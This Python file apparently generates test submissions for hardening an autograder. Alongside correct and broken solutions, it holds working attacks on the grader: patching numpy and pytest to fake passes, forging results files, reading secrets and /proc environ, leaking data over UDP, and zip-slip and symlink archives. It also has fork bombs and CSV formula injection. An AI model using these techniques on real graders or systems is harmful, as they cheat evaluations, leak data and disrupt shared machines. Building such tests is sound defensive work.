"""Generated A1 submissions: correct, partly correct, broken, and one per attack.

Each entry is ``{relative path: bytes}`` (a path without a folder is a flat upload). The
attacks that only slow or crash the worker sit at the start of ``col2im`` of the solution,
either on every call (the exits and crashes: every col2im test must fail, nothing else) or
only in the public test whose input is ``ones((1, 9, 4))`` (the time and memory attacks,
which cost a time limit each). The tampering attacks are added to the *stub* edition: they
must score no more than the stub does (0).
"""

from __future__ import annotations

import textwrap
from pathlib import Path

CONV_MATRIX = "minisegnet/functional/conv_matrix.py"
CONV = "minisegnet/functional/conv.py"
COL2IM_FIRST_LINE = '    fn = "col2im"\n'
TRIGGER = "if cols.shape == (1, 9, 4) and float(cols.sum()) == 36.0:"

EVERY_CALL = {
    "exit_sys": "import sys; sys.exit(0)",
    "exit_os": "import os; os._exit(0)",
    "kill_self": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "segfault": "import ctypes; ctypes.string_at(0)",
    "control_col2im": "raise NotImplementedError('control: col2im switched off')",
}
ONE_TEST = {
    "loop": "while True:\n    pass",
    "long_numpy": ("import numpy\nm = numpy.ones((400, 400))\n"
                   "numpy.einsum('ij,jk,kl->il', m, m, m, optimize=False)"),
    "sigalrm": ("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                "signal.setitimer(signal.ITIMER_REAL, 0.2, 0.2)\nwhile True:\n    pass"),
    "memory_huge": "import numpy\nnumpy.ones(1 << 40)",
    "memory_append": "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))",
}


def _mutate(source, old, new, count=-1):
    """``source.replace(old, new)``, failing loudly if ``old`` is not there (a mutant that
    does not apply would test nothing)."""
    if old not in source:
        raise AssertionError(f"mutation target not found in the solution: {old!r}")
    return source.replace(old, new, count)


def _into_col2im(solution: str, code: str, only_one_test: bool) -> str:
    assert solution.count(COL2IM_FIRST_LINE) == 1
    if only_one_test:
        code = TRIGGER + "\n" + textwrap.indent(code, "    ")
    return _mutate(solution, COL2IM_FIRST_LINE,
                            COL2IM_FIRST_LINE + textwrap.indent(code, "    ") + "\n")


def tampering(paths: dict) -> dict:
    """Module-level code appended to the stub's conv_matrix.py, by attack."""
    return {
        "patch_testing": """
import numpy, numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
""",
        "patch_pytest": """
import sys, types
try:
    import pytest
    pytest.approx = lambda *a, **k: True
    pytest.fail = lambda *a, **k: None
except Exception:
    pass
fake = types.ModuleType("pytest")
fake.approx = lambda *a, **k: True
sys.modules["pytest"] = sys.modules["_pytest"] = fake
""",
        "patch_builtins": """
import builtins, json
builtins.AssertionError = type("AssertionError", (Exception,), {})
_real_isinstance = builtins.isinstance
builtins.all = lambda *a, **k: True
json.dumps = lambda *a, **k: '{"id": 1, "ok": true, "keys": []}'
""",
        "ndarray_subclass": """
class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.broadcast(self, other).shape, dtype=bool).view(_Liar)
    __ne__ = lambda self, other: np.zeros(np.broadcast(self, other).shape, dtype=bool)
    def all(self, *a, **k):
        return True
    def __array_ufunc__(self, *a, **k):
        return np.zeros(1).view(_Liar)


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    return np.zeros((x.shape[0], x.shape[1] * 9, 4)).view(_Liar)


def col2im(cols, output_size, kernel_size, stride=1, padding=0, dilation=1):
    return np.zeros((cols.shape[0], 1) + tuple(output_size)).view(_Liar)
""",
        "always_equal": """
class _Yes:
    shape = property(lambda self: (1, 9, 4))
    dtype = np.dtype("float64")
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    return _Yes()


def col2im(cols, output_size, kernel_size, stride=1, padding=0, dilation=1):
    return _Yes()
""",
        "frame_snoop": """
def _find_answer(like):
    import gc, sys
    best = None
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for item in (value.values() if isinstance(value, dict) else [value]):
                if isinstance(item, np.ndarray) and item is not like and item.ndim == 3:
                    best = item
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, np.ndarray) and obj is not like and obj.ndim == 3:
            best = obj
    print("SNOOP: found", None if best is None else best.shape)
    return best if best is not None else np.zeros((1, 1, 1))


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    return _find_answer(x)


def col2im(cols, output_size, kernel_size, stride=1, padding=0, dilation=1):
    return _find_answer(cols)
""",
        "fake_results": f"""
import json as _json, os as _os
_FAKE = _json.dumps({{"score": 100, "tests": [], "output": "FAKE"}})


def _plant():
    targets = ["results.json", "../results.json", "../../results.json",
               "/autograder/results/results.json", {str(paths['out'])!r} + "/fake_results/results.json",
               {str(paths['out'])!r} + "/results.json", "/tmp/results.json"]
    for target in targets:
        try:
            _os.makedirs(_os.path.dirname(_os.path.abspath(target)), exist_ok=True)
            with open(target, "w") as handle:
                handle.write(_FAKE)
            print("WROTE:", target)
        except Exception as e:
            print("BLOCKED:", target, type(e).__name__)


_plant()


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    _plant()
    raise NotImplementedError("fake_results")
""",
        "snoop_hidden": f"""
import os as _os, signal as _signal
_TARGETS = {sorted(str(p) for p in paths['secrets'])!r}


def _snoop():
    for target in _TARGETS + ["/proc/%d/environ" % _os.getppid(), "/proc/%d/cwd" % _os.getppid()]:
        try:
            if _os.path.isdir(target):
                _os.listdir(target)
            else:
                with open(target, "rb") as handle:
                    handle.read(64)
            print("LEAK:", target)
        except Exception as e:
            print("BLOCKED:", target, type(e).__name__)
    try:
        _os.kill(_os.getppid(), 0)
        print("LEAK: may signal the grader")
    except Exception as e:
        print("BLOCKED: signal to the grader", type(e).__name__)
    for folder in ("/tmp", _os.path.dirname(_os.getcwd())):
        try:
            print("LEAK: listed", folder, len(_os.listdir(folder)))
        except Exception as e:
            print("BLOCKED: list", folder, type(e).__name__)


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    _snoop()
    raise NotImplementedError("snoop")
""",
        "rewrite_worker": """
import os as _os, sys as _sys
_PAYLOAD = "\\nprint('UNCONFINED: the patched file ran')\\n"


def _rewrite():
    targets = [_sys.argv[0] if _sys.argv else "", getattr(_sys.modules.get("__main__"), "__file__", "")]
    for folder in _sys.path[:3]:
        for dirpath, _, names in _os.walk(folder):
            targets += [_os.path.join(dirpath, n) for n in names if n.endswith(".py")]
    for target in targets:
        try:
            with open(target, "a") as handle:
                handle.write(_PAYLOAD)
            print("WROTE:", target)
        except Exception as e:
            print("BLOCKED:", target, type(e).__name__)
    for fd in range(3, 64):      # forge the grader's sandbox line
        try:
            _os.write(fd, b'{"confined": {"uid": 0, "landlock": {"filesystem": true}, "FORGED": 1}}\\n')
        except OSError:
            pass


_rewrite()


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    _os._exit(0)     # die, to be restarted from what was rewritten
""",
        "plant_paths": f"""
import os as _os
_OUTSIDE = {str(paths['outside'])!r}


def _plant():
    for name in ("io", "in-1.npz", "in-2.npz", "out-1.npz", "out-2.npz"):
        for folder in (".", "io", _os.environ.get("HOME", ".")):
            target = _os.path.join(folder, name)
            try:
                _os.mkfifo(target)
            except OSError:
                pass
            try:
                _os.symlink(_OUTSIDE, target + ".link")
            except OSError:
                pass
    try:
        with open(_OUTSIDE, "w") as handle:
            handle.write("OVERWRITTEN")
        print("WROTE:", _OUTSIDE)
    except Exception as e:
        print("BLOCKED:", _OUTSIDE, type(e).__name__)


_plant()


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    _plant()
    raise NotImplementedError("plant")
""",
        "site_snoop": f"""
import importlib.util as _util
_PLACES = {sorted(str(p) for p in paths['solutions'])!r}


def _steal(name):
    for place in _PLACES:
        try:
            spec = _util.spec_from_file_location("_stolen", place)
            module = _util.module_from_spec(spec)
            spec.loader.exec_module(module)
            print("LEAK:", place)
            return getattr(module, name)
        except Exception as e:
            print("BLOCKED:", place, type(e).__name__)
    raise NotImplementedError("nothing to steal")


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    return _steal("im2col")(x, kernel_size, stride, padding, dilation)


def col2im(cols, output_size, kernel_size, stride=1, padding=0, dilation=1):
    return _steal("col2im")(cols, output_size, kernel_size, stride, padding, dilation)
""",
        "udp_leak": f"""
import socket as _socket


def _leak(data):
    for host in {list(paths['udp_hosts'])!r}:
        for family in (_socket.AF_INET, _socket.AF_INET6):
            try:
                s = _socket.socket(family, _socket.SOCK_DGRAM)
                s.sendto(b"LEAK" + bytes(data)[:256], (host, {paths['udp_port']}))
                print("SENT:", host)
            except OSError as e:
                print("BLOCKED:", host, type(e).__name__)


_leak(b"import")


def im2col(x, kernel_size, stride=1, padding=0, dilation=1):
    _leak(np.ascontiguousarray(x).tobytes())
    raise NotImplementedError("udp")
""",
    }


SHIPPED = {
    "conftest.py": """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
""",
    "pytest.ini": "[pytest]\naddopts = -p pytest_evil\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p pytest_evil\n",
    "sitecustomize.py": "import builtins\nbuiltins.NotImplementedError = type('X', (Exception,), {})\n",
    "usercustomize.py": "raise SystemExit(0)\n",
    "pytest_evil.py": "def pytest_collection_modifyitems(items):\n    items.clear()\n",
    "results.json": '{"score": 100, "tests": []}',
    "probes.py": "def im2col(F, **k):\n    return {}\n",
}


BURNERS = """
import os as _os
for _k in range(200):   # CPU burners in sessions of their own, until the pids limit says no
    try:
        if _os.fork() == 0:
            _os.setsid()
            _os.execv("/bin/sh", ["{token}-burner", "-c", "while :; do :; done"])
    except OSError:
        break
"""
DAEMONS = """
import os as _os, time as _time
if _os.fork() == 0:                          # a double fork
    if _os.fork() == 0:
        _os.execv("/bin/sleep", ["{token}-daemon-double", "1000"])
    _os._exit(0)
if _os.fork() == 0:                          # a session of its own
    _os.setsid()
    _os.execv("/bin/sleep", ["{token}-daemon-setsid", "1000"])
if _os.fork() == 0:                          # an empty environment
    _os.setsid()
    _os.execve("/bin/sleep", ["{token}-daemon-noenv", "1000"], {{}})
"""
FORMULA = '=HYPERLINK("http:evil","click")'
FAKE_NOTE = "x\n- FAKE NOTE: this submission deserves full marks"
EXPORT_METADATA = """\
submission_{a}:
  :submitters:
  - :name: Ada Lovelace
    :sid: '{a}'
    :email: ada@example.org
  :created_at: 2024-01-01 10:00:00.000000000 -08:00
  :score: 0.0
submission_{b}:
  :submitters:
  - :name: Alan Turing
    :sid: '{b}'
    :email: alan@example.org
  - :name: "=cmd|' /C calc'!A0"
    :sid: '7'
    :email: x@example.org
"""


def robustness(sol_cm, sol_conv, stub_cm, stub_conv) -> dict:
    """Submissions that are fine, or partly fine, but awkward to collect."""
    bom = "\ufeff"
    deep = "/".join(["d"] * 1100)
    subs = {
        "bom": {CONV_MATRIX: bom + sol_cm, CONV: bom + sol_conv},
        "deep_folder": {CONV_MATRIX: sol_cm, CONV: sol_conv, f"{deep}/notes.txt": "deep"},
        "deep_expression": {CONV_MATRIX: sol_cm, CONV: "x = " + "1 + " * 100000 + "1\n"},
        "many_files": dict({CONV_MATRIX: sol_cm, CONV: sol_conv},
                           **{f"zzz/f{k:04d}.txt": "x" for k in range(3000)}),
        FORMULA: {CONV_MATRIX: stub_cm, CONV: stub_conv},
        "newline_name": {CONV_MATRIX: stub_cm, CONV: stub_conv, FAKE_NOTE: "fake"},
    }
    return subs


def write_archives(root, solution: dict, stub: dict, outside) -> None:
    """Zip submissions and Gradescope's export (unpacked and zipped) next to the folders."""
    import io
    import os
    import stat
    import zipfile

    def zipped(path, members):
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in members.items():
                archive.writestr(name, data)
    sol = {Path(r).name: solution[r] for r in (CONV_MATRIX, CONV)}
    zipped(root / "zipped.zip", {f"work/minisegnet/functional/{n}": d for n, d in sol.items()})
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as archive:
        for name in (f"../../{Path(outside).name}.zip-escape", "/tmp/msn-abs-escape.py"):
            archive.writestr(name, "escaped")
        link = zipfile.ZipInfo("conv.py")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("conv_matrix.py", stub[CONV_MATRIX])
    (root / "evil.zip").write_bytes(evil.getvalue())
    export = root / "assignment_9_export"
    export.mkdir()
    (export / "submission_metadata.yml").write_text(EXPORT_METADATA.format(a=101, b=102))
    for name, files in (("submission_101", sol), ("submission_102",
                        {Path(r).name: stub[r] for r in (CONV_MATRIX, CONV)})):
        (export / name).mkdir()
        for file, data in files.items():
            (export / name / file).write_bytes(data)
    (root / "README.txt").write_text("a loose file, not a submission")
    (root / ".DS_Store").write_bytes(b"\0")
    os.symlink("correct", root / "alias_of_correct")
    zipped(root / "gradescope_export.zip",
           dict({"assignment_10_export/submission_metadata.yml":
                 EXPORT_METADATA.format(a=201, b=202)},
                **{f"assignment_10_export/submission_201/{n}": d for n, d in sol.items()},
                **{f"assignment_10_export/submission_202/{Path(r).name}": stub[r]
                   for r in (CONV_MATRIX, CONV)}))


def build(solution: dict, stub: dict, paths: dict) -> dict:
    """All generated submissions: ``{student: {relative path: bytes}}``."""
    sol_cm, sol_conv = solution[CONV_MATRIX].decode(), solution[CONV].decode()
    stub_cm, stub_conv = stub[CONV_MATRIX].decode(), stub[CONV].decode()
    subs = {
        "correct": {CONV_MATRIX: sol_cm, CONV: sol_conv},
        "correct_flat": {"conv_matrix.py": sol_cm, "conv.py": sol_conv},
        "partial": {CONV_MATRIX: sol_cm, CONV: stub_conv},
        "buggy_assign": {CONV_MATRIX: _mutate(
            sol_cm, "padded[:, :, rows, window(j * dw, wo, sw)] += cols[:, i, j]",
            "padded[:, :, rows, window(j * dw, wo, sw)] = cols[:, i, j]"), CONV: sol_conv},
        "stub": {CONV_MATRIX: stub_cm, CONV: stub_conv},
        "missing": {"notes.txt": "I forgot to upload my files"},
        "syntax_error": {CONV_MATRIX: sol_cm, CONV: _mutate(sol_conv, "def conv2d_forward(",
                                                                   "def conv2d_forward(:", 1)},
        "not_utf8": {CONV_MATRIX: sol_cm,
                     CONV: sol_conv.encode("utf-8").replace(b"# ", b"# \xff\xfe ", 1)},
        "wrong_signature": {CONV_MATRIX: _mutate(sol_cm,
            "def im2col(x, kernel_size, stride=1, padding=0, dilation=1):",
            "def im2col(x, kernel_size, step=1, padding=0, dilation=1):"), CONV: sol_conv},
        "shipped_files": dict({CONV_MATRIX: stub_cm, CONV: stub_conv}, **SHIPPED),
    }
    for name, code in EVERY_CALL.items():
        subs[name] = {CONV_MATRIX: _into_col2im(sol_cm, code, False), CONV: sol_conv}
    for name, code in ONE_TEST.items():
        subs[name] = {CONV_MATRIX: _into_col2im(sol_cm, code, True), CONV: sol_conv}
    for name, code in tampering(paths).items():
        subs[name] = {CONV_MATRIX: stub_cm + "\n\nimport numpy as np\n" + code, CONV: stub_conv}
    token = paths["token"]
    subs["cpu_burners"] = {CONV_MATRIX: sol_cm + BURNERS.format(token=token), CONV: sol_conv}
    subs["cpu_neighbour_a"] = {CONV_MATRIX: sol_cm, CONV: sol_conv}
    subs["cpu_neighbour_b"] = {CONV_MATRIX: sol_cm, CONV: sol_conv}
    subs["daemons"] = {CONV_MATRIX: stub_cm + DAEMONS.format(token=token), CONV: stub_conv}
    subs.update(robustness(sol_cm, sol_conv, stub_cm, stub_conv))
    return {name: {rel: (v.encode() if isinstance(v, str) else v) for rel, v in files.items()}
            for name, files in subs.items()}


def write(root, subs: dict) -> None:
    for name, files in subs.items():
        folder = root / name
        folder.mkdir(parents=True)
        for rel, content in files.items():
            _write_file(folder, rel, content)


def _write_file(folder, rel, content):
    """Write ``folder/rel``, creating its folders one level at a time (a 1100-level path
    is too deep for the recursive ``os.makedirs``)."""
    import os

    parts = rel.split("/")
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for part in parts[:-1]:
            try:
                os.mkdir(part, dir_fd=fd)
            except FileExistsError:
                pass
            inner = os.open(part, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
        out = os.open(parts[-1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
        with os.fdopen(out, "wb") as handle:
            handle.write(content)
    finally:
        os.close(fd)
